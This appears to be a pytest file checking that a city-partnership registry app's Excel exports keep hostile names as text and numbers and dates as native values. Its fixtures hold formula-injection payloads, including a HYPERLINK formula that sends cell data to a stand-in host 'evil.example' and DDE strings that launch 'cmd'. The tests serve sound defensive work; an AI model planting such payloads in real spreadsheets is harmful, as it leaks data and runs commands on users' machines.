"""Formula injection: a hostile name stays text in every registry export; numbers stay numbers."""

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from citydiplomacy.agreements import services
from citydiplomacy.memberships import services as memberships
from citydiplomacy.partners.models import City, Country
from citydiplomacy.partners.services import create_partner

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_PLUS = "+cmd|' /C calc'!A0"
HOSTILE_AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def cells_of(response):
    assert response.status_code == 200
    data = response.content
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row], data


def assert_text_not_formula(cells, data, *texts):
    by_value = {cell.value: cell for cell in cells}
    for text in texts:
        assert text in by_value, text
        assert by_value[text].data_type == "s" and by_value[text].quotePrefix
    assert all(cell.data_type != "f" for cell in cells)
    with __import__("zipfile").ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


@pytest.fixture
def hostile_org(secretary):
    return create_partner(
        "organization", secretary, name_fa=HOSTILE, name_en=HOSTILE, kind="network", acronym=HOSTILE_AT,
        country=Country.objects.get(iso2="FR"),
    )  # fmt: skip


def test_partner_exports_keep_hostile_names_as_text(client_for, secretary, hostile_org):
    city = create_partner("city", secretary, name_fa=HOSTILE_PLUS, country=Country.objects.get(iso2="FR"))
    create_partner("contact", secretary, name_fa="-2+3+cmd", name_en=HOSTILE, organization=hostile_org,
                   city=city)  # fmt: skip
    client = client_for(secretary)
    cells, data = cells_of(client.get("/partners/organization/", {"format": "xlsx"}))
    assert_text_not_formula(cells, data, HOSTILE, HOSTILE_AT)
    cells, data = cells_of(client.get("/partners/city/", {"format": "xlsx", "q": "cmd"}))
    assert_text_not_formula(cells, data, HOSTILE_PLUS)
    cells, data = cells_of(client.get("/partners/contact/", {"format": "xlsx"}))
    assert_text_not_formula(cells, data, HOSTILE, "-2+3+cmd")


def test_agreement_and_commitment_exports_keep_hostile_titles_as_text(
    client_for, secretary, agreement_factory
):
    agreement = agreement_factory(title_fa=HOSTILE, title_en=HOSTILE_PLUS, signed_place="\t=1+1")
    services.add_commitment(agreement, secretary, title=HOSTILE_AT, due_on=dt.date(2030, 1, 1))
    client = client_for(secretary)
    cells, data = cells_of(client.get("/agreements/", {"format": "xlsx"}))
    assert_text_not_formula(cells, data, HOSTILE, HOSTILE_PLUS, "\t=1+1")
    dates = [c for c in cells if c.is_date]
    assert dates, "dates stay dates"
    cells, data = cells_of(client.get("/agreements/commitments/", {"format": "xlsx"}))
    assert_text_not_formula(cells, data, HOSTILE_AT)


def test_membership_and_seat_exports_keep_text_and_numbers(client_for, secretary, hostile_org):
    memberships.create_membership(secretary, organization=hostile_org, annual_dues=1500, currency="-EU")
    memberships.create_seat(secretary, organization=hostile_org, title_fa=HOSTILE_PLUS, body="=1+2")
    client = client_for(secretary)
    cells, data = cells_of(client.get("/memberships/", {"format": "xlsx"}))
    assert_text_not_formula(cells, data, f"{HOSTILE} ({HOSTILE_AT})", "-EU")
    dues = [c for c in cells if c.value == 1500]
    assert dues and dues[0].data_type == "n"
    cells, data = cells_of(client.get("/memberships/seats/", {"format": "xlsx"}))
    assert_text_not_formula(cells, data, HOSTILE_PLUS, "=1+2")


def test_control_characters_never_break_an_export(client_for, secretary):
    create_partner("city", secretary, name_fa="Bell\x07town", country=Country.objects.get(iso2="FR"))
    cells, _data = cells_of(client_for(secretary).get("/partners/city/", {"format": "xlsx", "q": "town"}))
    assert "Belltown" in {c.value for c in cells}
    assert City.objects.filter(name_fa="Bell\x07town").exists()
